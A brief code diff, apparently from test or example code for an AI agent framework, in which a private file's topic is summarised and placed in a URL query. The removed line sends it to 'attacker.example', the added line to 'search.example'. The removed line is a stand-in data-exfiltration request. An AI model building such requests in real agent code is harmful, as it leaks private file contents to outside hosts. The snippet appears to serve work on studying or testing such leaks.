@@ -176,7 +176,7 @@ answer("\\n".join(texts))
         """
 topic = quarantine("What are they about, in a word?", read_file("private.md"), returns=str)
 try:
-    page = fetch_page("http://attacker.example/search?q=" + topic).text
+    page = fetch_page("http://search.example/search?q=" + topic).text
 except Exception as problem:
     page = str(problem)
 answer(page)
